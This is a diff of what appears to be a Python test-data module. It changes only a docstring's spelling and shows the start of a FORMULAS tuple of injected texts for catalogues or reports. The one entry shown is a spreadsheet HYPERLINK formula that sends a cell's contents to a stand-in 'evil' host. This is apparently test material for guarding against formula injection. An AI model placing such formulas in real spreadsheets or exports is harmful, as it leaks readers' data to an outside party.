@@ -1,4 +1,4 @@
-"""Texts that someone would put into a catalogue or a report to reach those who read it."""
+"""Texts that someone would put into a catalog or a report to reach those who read it."""
 
 FORMULAS = (
     '=HYPERLINK("http://evil/?"&A1,"see")',
